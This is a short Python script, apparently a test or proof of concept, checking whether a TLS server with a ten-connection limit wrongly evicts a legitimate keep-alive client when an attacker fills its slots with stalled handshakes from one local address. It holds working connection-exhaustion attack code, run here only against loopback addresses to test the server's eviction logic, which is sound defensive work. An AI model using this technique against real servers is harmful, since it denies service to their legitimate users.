"""A full server evicts a connection for a newcomer, then refuses the newcomer's
handshake (its address already has 8 in progress): another client's keep-alive is
closed for nothing. Server: --tls --max-connections 10 on PORT."""
import sys, time
import tlsattack as t
port = int(sys.argv[1])
# A legitimate client with a keep-alive connection (handshake done, one answer read).
legit = t.Bio(port, "127.0.0.5")
legit.send(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
print("legit first answer:", legit.recv_all(until=b"ok")[:15])
# The attacker: 8 handshakes in progress (TCP connected, nothing sent) fill its share,
# one more idle address fills the server (10).
stalled = [t.connect(port, "127.0.0.2") for _ in range(8)]
other = t.connect(port, "127.0.0.3")
time.sleep(0.3)
# Now each new connection from the attacker is refused (8 in progress)...
for _ in range(3):
    s = t.connect(port, "127.0.0.2")
    try:
        s.sendall(t.client_hello()[0]); r = s.recv(10)
    except Exception as e:
        r = type(e).__name__
    print("attacker's 9th:", r)
time.sleep(0.3)
# ...but did it cost the legitimate client its connection?
try:
    legit.send(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
    ans = legit.recv_all(until=b"ok")
except Exception as e:
    ans = type(e).__name__.encode()
print("legit second request on its keep-alive:", ans[:15] or b"<closed>")
